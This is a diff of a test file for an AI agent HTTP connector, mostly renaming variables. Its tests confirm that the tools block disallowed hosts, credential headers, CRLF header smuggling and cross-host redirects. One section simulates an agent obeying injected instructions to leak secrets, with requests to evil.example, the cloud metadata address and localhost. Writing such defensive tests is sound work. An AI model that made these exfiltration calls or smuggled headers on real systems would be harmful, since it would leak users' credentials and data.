@@ -2,11 +2,11 @@ import { connectorHttpPlugin } from '@countersign/connector-http';
 import { OutboundHttpError, RetryableFailure, ToolError } from '@countersign/core/plugin';
 import { expect } from 'chai';
 import { startService, type Service } from './connectors.spec.support.js';
-import { toolBench, type ToolBench } from './tools.spec.support.js';
+import { createToolBench, type ToolBench } from './tools.spec.support.js';
 
 const CANARY = 'canary-77e0b2';
 
-interface Answer {
+interface ResponseContent {
   readonly status: number;
   readonly headers: Readonly<Record<string, string>>;
   readonly body: unknown;
@@ -15,17 +15,17 @@ interface Answer {
 
 describe('HTTP tools of agents', () => {
   let service: Service;
-  let workflowsOnly: Service;
+  let workflowOnlyService: Service;
   let tools: ToolBench;
 
   before(async () => {
-    [service, workflowsOnly] = await Promise.all([startService(), startService()]);
-    tools = toolBench(connectorHttpPlugin, {
+    [service, workflowOnlyService] = await Promise.all([startService(), startService()]);
+    tools = createToolBench(connectorHttpPlugin, {
       Connectors: {
         AllowedNetworks: ['127.0.0.1'],
         Http: { AllowedHosts: ['*:*'] },
         Secrets: {
-          TRACKER: { Value: CANARY, Hosts: [service.host, workflowsOnly.host] },
+          TRACKER: { Value: CANARY, Hosts: [service.host, workflowOnlyService.host] },
           ELSEWHERE: { Value: CANARY, Hosts: ['api.example'] },
         },
       },
@@ -45,26 +45,26 @@ describe('HTTP tools of agents', () => {
   });
 
   beforeEach(() => {
-    for (const each of [service, workflowsOnly]) {
+    for (const each of [service, workflowOnlyService]) {
       each.calls.splice(0);
-      each.answer = (_, response) => response.end();
+      each.respond = (_, response) => response.end();
     }
   });
 
-  after(() => Promise.all([service.close(), workflowsOnly.close()]));
+  after(() => Promise.all([service.close(), workflowOnlyService.close()]));
 
   const jsonResponse =
-    (body: unknown, status = 200, headers: Record<string, string> = {}): Service['answer'] =>
+    (body: unknown, status = 200, headers: Record<string, string> = {}): Service['respond'] =>
     (_, response) =>
       void response.writeHead(status, { 'Content-Type': 'application/json', ...headers }).end(JSON.stringify(body));
 
   describe('http.get', () => {
     it('should return the response with its relevant headers', async () => {
       // given
-      service.answer = jsonResponse({ open: 3 }, 200, { 'ETag': '"1"', 'X-Internal': 'host-7' });
+      service.respond = jsonResponse({ open: 3 }, 200, { 'ETag': '"1"', 'X-Internal': 'host-7' });
 
       // when
-      const { content, taint } = await tools.call<Answer>('http.get', {
+      const { content, taint } = await tools.call<ResponseContent>('http.get', {
         url: `${service.url}/issues?state=open`,
         query: { page: 2 },
         headers: { Accept: 'application/json' },
@@ -77,16 +77,16 @@ describe('HTTP tools of agents', () => {
         body: { open: 3 },
         bodyType: 'json',
       });
-      expect(taint, 'the taint of the tool, which is the rule').to.equal(undefined);
+      expect(taint, 'no taint of the output, so that the taint of the tool applies').to.equal(undefined);
       expect(service.calls[0]).to.include({ method: 'GET', path: '/issues?state=open&page=2' });
       expect(service.calls[0]?.headers).not.to.have.property('idempotency-key');
     });
 
     for (const status of [301, 404, 500]) {
       it(`should return a response with status ${status} without following its redirect`, async () => {
-        service.answer = (_, response) => response.writeHead(status, { Location: `${service.url}/elsewhere` }).end();
+        service.respond = (_, response) => response.writeHead(status, { Location: `${service.url}/elsewhere` }).end();
 
-        expect((await tools.call<Answer>('http.get', { url: service.url })).content).to.deep.include({
+        expect((await tools.call<ResponseContent>('http.get', { url: service.url })).content).to.deep.include({
           status,
           headers: { location: `${service.url}/elsewhere` },
         });
@@ -95,7 +95,7 @@ describe('HTTP tools of agents', () => {
     }
 
     it('should fail as retryable after the delay that a busy service requests', async () => {
-      service.answer = (_, response) => response.writeHead(503, { 'Retry-After': '7' }).end();
+      service.respond = (_, response) => response.writeHead(503, { 'Retry-After': '7' }).end();
 
       expect(await tools.callAndGetError('http.get', { url: service.url }))
         .to.be.instanceOf(RetryableFailure)
@@ -104,9 +104,9 @@ describe('HTTP tools of agents', () => {
 
     it('should return a JSON response as a string when it is malformed or cannot be stored by a run', async () => {
       for (const body of ['{"a": ', '{"__proto__": {"a": 1}}', '"\\u0000"']) {
-        service.answer = (_, response) => response.writeHead(200, { 'Content-Type': 'application/json' }).end(body);
+        service.respond = (_, response) => response.writeHead(200, { 'Content-Type': 'application/json' }).end(body);
 
-        expect((await tools.call<Answer>('http.get', { url: service.url })).content, body).to.include({
+        expect((await tools.call<ResponseContent>('http.get', { url: service.url })).content, body).to.include({
           body,
           bodyType: 'text',
         });
@@ -114,14 +114,14 @@ describe('HTTP tools of agents', () => {
     });
 
     it('should report to the language model that a response is too large', async () => {
-      service.answer = (_, response) => void response.end('x'.repeat(1_001));
+      service.respond = (_, response) => void response.end('x'.repeat(1_001));
 
       expect(await tools.callAndGetError('http.get', { url: service.url }))
         .to.be.instanceOf(ToolError)
         .and.include({ code: 'outbound_response_too_large' });
     });
 
-    for (const [caseName, more] of Object.entries({
+    for (const [caseName, extraFields] of Object.entries({
       'a header that overrides the method': { headers: { 'X-HTTP-Method-Override': 'DELETE' } },
       'any other header that may be a command': { headers: { 'X-Delete': 'yes' } },
       'a body': { body: 'x' },
@@ -131,7 +131,7 @@ describe('HTTP tools of agents', () => {
     })) {
       it(`should not accept ${caseName}`, () => {
         expect(tools.acceptsInput('http.get', { url: 'https://api.example/' })).to.equal(true);
-        expect(tools.acceptsInput('http.get', { url: 'https://api.example/', ...more })).to.equal(false);
+        expect(tools.acceptsInput('http.get', { url: 'https://api.example/', ...extraFields })).to.equal(false);
       });
     }
 
@@ -149,9 +149,9 @@ describe('HTTP tools of agents', () => {
 
   describe('http.request', () => {
     it('should send the given request with the idempotency key of the call', async () => {
-      service.answer = jsonResponse({ id: 7 }, 201);
+      service.respond = jsonResponse({ id: 7 }, 201);
 
-      const { content } = await tools.call<Answer>(
+      const { content } = await tools.call<ResponseContent>(
         'http.request',
         { method: 'POST', url: `${service.url}/orders`, body: { amount: 5 } },
         { idempotencyKey: 'call-9' },
@@ -163,17 +163,17 @@ describe('HTTP tools of agents', () => {
       expect(service.calls[0]?.headers).to.include({ 'idempotency-key': 'call-9', 'content-type': 'application/json' });
     });
 
-    it('should not follow a redirect to another host, which no person approved', async () => {
-      service.answer = (_, response) => response.writeHead(307, { Location: `${workflowsOnly.url}/` }).end();
+    it('should not follow a redirect to a host that no person has approved', async () => {
+      service.respond = (_, response) => response.writeHead(307, { Location: `${workflowOnlyService.url}/` }).end();
 
       expect(
-        (await tools.call<Answer>('http.request', { method: 'POST', url: service.url, body: 'x' })).content,
+        (await tools.call<ResponseContent>('http.request', { method: 'POST', url: service.url, body: 'x' })).content,
       ).to.include({ status: 307 });
-      expect(workflowsOnly.calls).to.eql([]);
+      expect(workflowOnlyService.calls).to.eql([]);
     });
 
     it('should fail as retryable when no connection was made or the service responds with 429', async () => {
-      service.answer = (_, response) => response.writeHead(429, { 'Retry-After': '1' }).end();
+      service.respond = (_, response) => response.writeHead(429, { 'Retry-After': '1' }).end();
 
       expect(await tools.callAndGetError('http.request', { method: 'POST', url: 'http://127.0.0.1:1/' }))
         .to.be.instanceOf(RetryableFailure)
@@ -183,12 +183,12 @@ describe('HTTP tools of agents', () => {
         .and.include({ code: 'http_status_429' });
     });
 
-    it('should leave the outcome open when the connection breaks or the response is too large', async () => {
-      for (const answer of [
-        ((call, response) => void response.destroy()) as Service['answer'],
-        ((call, response) => void response.end('x'.repeat(1_001))) as Service['answer'],
+    it('should leave the outcome unknown when the connection breaks or the response is too large', async () => {
+      for (const respond of [
+        ((call, response) => void response.destroy()) as Service['respond'],
+        ((call, response) => void response.end('x'.repeat(1_001))) as Service['respond'],
       ]) {
-        service.answer = answer;
+        service.respond = respond;
 
         const failure = await tools.callAndGetError('http.request', { method: 'PUT', url: service.url });
 
@@ -216,13 +216,13 @@ describe('HTTP tools of agents', () => {
         ).to.equal(false));
     }
 
-    for (const [caseName, more] of Object.entries({
+    for (const [caseName, extraFields] of Object.entries({
       'an Authorization header': { Authorization: `Bearer ${CANARY}` },
       'a cookie': { Cookie: 'session=1' },
       'a broken header': { 'X-A': 'a\r\nX-B: b' },
     })) {
       it(`should refuse a forbidden or malformed header: ${caseName}`, async () => {
-        expect(await tools.callAndGetError('http.request', { method: 'POST', url: service.url, headers: more }))
+        expect(await tools.callAndGetError('http.request', { method: 'POST', url: service.url, headers: extraFields }))
           .to.be.instanceOf(ToolError)
           .and.include({ code: 'outbound_request_invalid' });
         expect(service.calls).to.eql([]);
@@ -233,30 +233,30 @@ describe('HTTP tools of agents', () => {
   describe('an agent that obeys injected instructions to leak secrets', () => {
     it('should reach only the hosts that are configured for agents', async () => {
       for (const url of [
-        workflowsOnly.url,
+        workflowOnlyService.url,
         'https://evil.example/',
         'http://169.254.169.254/',
         `http://localhost:${new URL(service.url).port}/`,
       ]) {
-        expect(await tools.callAndGetError('http.get', { url, query: { data: 'what it has read' } }), url)
+        expect(await tools.callAndGetError('http.get', { url, query: { data: 'leaked data' } }), url)
           .to.be.instanceOf(ToolError)
           .and.include({ code: 'outbound_host_not_allowed' });
         expect(await tools.callAndGetError('http.request', { method: 'POST', url, credential: 'tracker' }), url)
           .to.be.instanceOf(ToolError)
           .and.include({ code: 'outbound_host_not_allowed' });
       }
-      expect(workflowsOnly.calls).to.eql([]);
+      expect(workflowOnlyService.calls).to.eql([]);
     });
 
     it('should authenticate with configured credentials without seeing them', async () => {
-      service.answer = (call, response) => jsonResponse({ echo: call.headers })(call, response);
+      service.respond = (call, response) => jsonResponse({ echo: call.headers })(call, response);
 
       for (const [credential, header, value] of [
         ['tracker', 'authorization', `Bearer ${CANARY}`],
         ['key', 'x-api-key', CANARY],
         ['person', 'authorization', `Basic ${Buffer.from(`ada:${CANARY}`).toString('base64')}`],
       ] as const) {
-        const output = await tools.call<Answer>('http.get', { url: service.url, credential });
+        const output = await tools.call<ResponseContent>('http.get', { url: service.url, credential });
 
         expect(service.calls.at(-1)?.headers[header]).to.equal(value);
         expect(JSON.stringify(output))
